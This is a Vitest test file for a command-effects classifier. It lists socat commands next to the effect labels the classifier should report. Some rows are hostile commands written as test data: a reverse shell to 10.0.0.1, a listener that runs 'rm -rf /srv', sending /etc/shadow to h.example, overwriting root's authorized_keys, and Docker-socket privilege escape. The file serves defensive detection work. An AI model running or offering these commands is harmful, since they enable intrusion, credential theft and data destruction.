import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  [
    'socat TCP:10.0.0.1:4242 EXEC:/bin/sh',
    [
      'network:connect 10.0.0.1:4242',
      'execute:shell sh',
      'execute:serve-program 10.0.0.1:4242 external',
      'execute:reverse-shell socat external',
    ],
  ],
  [
    "socat tcp-listen:1,reuseaddr,fork exec:'rm -rf /srv',pty",
    ['network:listen 1', 'delete:remove /srv recursive force', 'execute:serve-program 1 external'],
  ],
  [
    'socat -u file:/etc/shadow tcp:h.example:1',
    [
      'read:read /etc/shadow sensitive',
      'network:connect h.example:1 sensitive external',
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
    ],
  ],
  ['socat -u file:/etc/shadow -', ['read:read /etc/shadow sensitive']],
  ["socat -u 'exec:echo DATA' open:/root/.ssh/authorized_keys,creat", ['write:overwrite /root/.ssh/authorized_keys']],
  ['socat tcp-listen:80,fork tcp:db:80', ['network:listen 80', 'network:connect db:80', 'network:tunnel 80']],
  ['socat - unix-connect:/run/x.sock', ['network:connect /run/x.sock']],
  ['socat - openssl:h.example:1,verify=0', ['network:connect h.example:1', 'crypto:weaken h.example:1']],
  ['socat - TCP:h.example:80', ['network:connect h.example:80']],
  ['socat -h', []],
  [
    'socat - unix-connect:/var/run/docker.sock',
    ['network:connect /var/run/docker.sock', 'privilege:escape /var/run/docker.sock'],
  ],
];

describe('socat', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
